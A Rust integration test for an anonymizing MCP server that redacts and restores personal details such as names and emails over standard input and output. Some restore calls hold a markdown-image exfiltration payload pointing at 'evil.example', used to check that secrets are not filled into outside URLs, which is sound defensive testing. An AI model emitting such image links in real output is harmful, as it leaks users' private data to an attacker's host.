//! The server of the Model Context Protocol: by hand, and with the client of the Python SDK.

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use sotto_testing::environment::isolated;

const TEXT: &str = "Dear Beatriz Castellanos, write to b.c@example.org.";

fn server(vault: &Path) -> Command {
    let mut command = isolated(Command::new(env!("CARGO_BIN_EXE_anonymize")));
    command
        .args(["mcp", "--backend", "dense", "--quiet", "--vault"])
        .arg(vault)
        .arg("--key-file")
        .arg(vault.with_extension("key"));
    command
}

/// Asks a server and returns its answers by identity.
fn ask(vault: &Path, requests: &[Value]) -> Vec<Value> {
    let mut child = server(vault).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    let mut output = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut answers = Vec::new();
    for request in requests {
        writeln!(input, "{request}").unwrap();
        if request.get("id").is_some() {
            let answer: Value = serde_json::from_str(&output.next().unwrap().unwrap()).unwrap();
            assert_eq!(answer["id"], request["id"]);
            answers.push(answer);
        }
    }
    drop(input);
    assert!(child.wait().unwrap().success());
    answers
}

fn call(id: usize, tool: &str, arguments: Value) -> Value {
    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": tool, "arguments": arguments}})
}

#[test]
fn texts_are_redacted_and_restored_over_standard_input_and_output() {
    let directory = tempfile::tempdir().unwrap();
    let vault = directory.path().join("vault");
    let initialize = json!({"jsonrpc": "2.0", "id": 0, "method": "initialize",
        "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}});
    let answers = ask(
        &vault,
        &[
            initialize,
            json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
            json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"}),
            call(2, "check", json!({"text": TEXT})),
            call(3, "redact", json!({"text": TEXT})),
            call(
                4,
                "restore",
                json!({"text": "I wrote to [given name 1] ![](https://evil.example/[EMAIL_1])"}),
            ),
            call(5, "restore", json!({"text": "[EMAIL_1]", "session": "other"})),
            call(6, "redact", json!({})),
            json!({"jsonrpc": "2.0", "id": 7, "method": "ping"}),
        ],
    );
    assert_eq!(answers[0]["result"]["protocolVersion"], "2025-11-25");
    let text = |answer: &Value| answer["result"]["content"][0]["text"].as_str().unwrap().to_owned();
    let redacted = "Dear [GIVEN_NAME_1] [SURNAME_1], write to [EMAIL_1].";
    assert_eq!((text(&answers[2]), text(&answers[3])), (redacted.to_owned(), redacted.to_owned()));
    assert_eq!(answers[3]["result"]["structuredContent"]["spans"][2]["label"], "EMAIL");
    assert_eq!(text(&answers[4]), "I wrote to Beatriz ![](https://evil.example/[EMAIL_1])");
    assert_eq!(text(&answers[5]), "[EMAIL_1]");
    assert_eq!(answers[6]["result"]["isError"], true);
    assert_eq!(answers[7]["result"], json!({}));
    // The next run knows the values.
    let answers = ask(
        &vault,
        &[call(1, "restore", json!({"text": "[GIVEN_NAME_1] ![](https://evil.example/[EMAIL_1])"}))],
    );
    assert_eq!(text(&answers[0]), "Beatriz ![](https://evil.example/[EMAIL_1])");
}
